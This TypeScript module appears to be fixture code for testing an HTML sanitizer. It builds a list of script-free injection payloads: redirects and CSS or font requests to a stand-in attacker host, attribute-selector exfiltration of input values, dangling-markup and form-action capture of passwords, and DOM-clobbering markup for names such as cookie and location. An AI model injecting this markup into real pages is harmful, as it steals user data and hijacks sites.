import { EVIL, HIT } from './marks.ts';

/** Nothing here runs a script: it leads the reader away, reads over the shoulder or takes a page's names. */
const WITHOUT_SCRIPTS: readonly string[] = [
  `<meta http-equiv=refresh content="0;${EVIL}/">`,
  `<meta http-equiv="refresh" content="0;url=data:text/html,<script>${HIT}</script>">`,
  `<meta http-equiv=Content-Security-Policy content="script-src *">`,
  `<meta name=referrer content=unsafe-url><img src="${EVIL}/x.png">`,
  `<meta charset=utf-7>+ADw-script+AD4-${HIT}+ADw-/script+AD4-`,
  `<base href="${EVIL}/"><a href=x>x</a><form action=x></form>`,
  `<base target="x${EVIL}">`,
  `<link rel=stylesheet href="${EVIL}/x.css">`,
  `<link rel=prefetch href="${EVIL}/"><link rel=preconnect href="${EVIL}">`,
  `<link rel=icon href="${EVIL}/x.ico"><link rel=canonical href="${EVIL}">`,
  `<style>@import'${EVIL}/x.css';body{display:none}</style>`,
  `<style>input[value^=a]{background:url(${EVIL}/a)}</style>`,
  `<style>@font-face{font-family:x;src:url(${EVIL}/f)}*{font-family:x}</style>`,
  `<p style="background-image:image-set('${EVIL}/x' 1x)">x</p>`,
  `<p style="list-style:url(${EVIL}/x);display:list-item">x</p>`,
  `<p style="cursor:url(${EVIL}/x),auto;content:url(${EVIL}/y)">x</p>`,
  `<p style="--x:url(${EVIL}/x);background:var(--x)">x</p>`,
  `<p style="background:\\75\\72\\6c(${EVIL}/x)">x</p>`,
  `<p style="text-align:left;/**/background:u/**/rl(${EVIL}/x)">x</p>`,
  `<p style="width:expression(${HIT});xss:expr/*x*/ession(${HIT})">x</p>`,
  `<p style="position:fixed;top:0;left:0;width:9999px;height:9999px;z-index:99999">x</p>`,
  `<svg><style>@import'${EVIL}/x.css';</style><image href="${EVIL}/x.svg" /></svg>`,
  `<svg><filter id=f><feImage href="${EVIL}/x.svg" /></filter><rect filter="url(${EVIL}/f#x)" /></svg>`,
  `<svg><use href="${EVIL}/x.svg#x" /><mpath href="${EVIL}/x" /></svg>`,
  `<a href="${EVIL}" ping="${EVIL}/p" target=_top rel="opener">x</a>`,
  `<a href="//evil.test" target=x rel="">x</a>`,
  `<form action="${EVIL}" autocomplete=on><input name=password type=password><button autofocus>x</button></form>`,
  `<input form=f name=x><button form=f formaction="${EVIL}" formmethod=get formtarget=_top>x</button>`,
  `<iframe src="${EVIL}" allow="camera *; clipboard-read *" name=x></iframe>`,
  `<iframe src="//evil.test" credentialless csp="script-src *"></iframe>`,
  `<object data="${EVIL}/x.swf" type="application/x-shockwave-flash"></object>`,
  `<embed src="${EVIL}/x.pdf" type="application/pdf">`,
  `<applet archive="${EVIL}/x.jar" code=x></applet>`,
  `<video src="${EVIL}/x.mp4" autoplay><track src="${EVIL}/x.vtt" default></video>`,
  `<audio src="${EVIL}/x.mp3" autoplay></audio>`,
  `<img src="${EVIL}/x.png" crossorigin=use-credentials attributionsrc="${EVIL}/a" browsingtopics>`,
  `<img src='${EVIL}/x.png?`,
  `<a href='${EVIL}/?`,
  `<textarea form=f name=x>`,
  `<map name=m><area shape=default href="${EVIL}" ping="${EVIL}"></map><img usemap=#m src=x.png>`,
  `<div popover=auto id=dialog>x</div><button popovertarget=dialog popovertargetaction=show autofocus>x</button>`,
  `<button commandfor=x command=close>x</button><a interestfor=x href=/>x</a>`,
  `<portal src="${EVIL}"></portal><webview src="${EVIL}"></webview>`,
  `<bdo dir=rtl>\u202e${EVIL}</bdo>\u2066\u2067`,
];

/** Names that scripts look up in `window`, `document`, a form or any object. */
const NAMES = [
  'location',
  'document',
  'body',
  'cookie',
  'getElementById',
  'querySelector',
  'attributes',
  'parentNode',
  'childNodes',
  'nodeName',
  'innerHTML',
  'defaultView',
  'currentScript',
  'root',
  'app',
  'hit',
  '__reactRouterContext',
  '__reactRouterManifest',
  '__reactRouterRouteModules',
  '$RC',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
];

const CLOBBERS: readonly ((name: string) => string)[] = [
  (name) => `<a id=${name} href="${EVIL}">x</a><a id=${name} name=href href="javascript:${HIT}">x</a>`,
  (name) => `<form id=${name} name=${name}><input name=${name} id=attributes><input name=innerHTML></form>`,
  (name) => `<img name=${name} src=x.png><iframe name=${name} srcdoc="<a id=${name}>x</a>"></iframe>`,
  (name) => `<object name=${name}></object><embed name=${name}><p id="${name}" class="${name}">x</p>`,
];

/** Markup that needs no script to do harm. */
export function writeSendingAway(): string[] {
  const clobbers = NAMES.map((name, place) => CLOBBERS[place % CLOBBERS.length]?.(name) ?? '');
  return [...WITHOUT_SCRIPTS, ...clobbers];
}
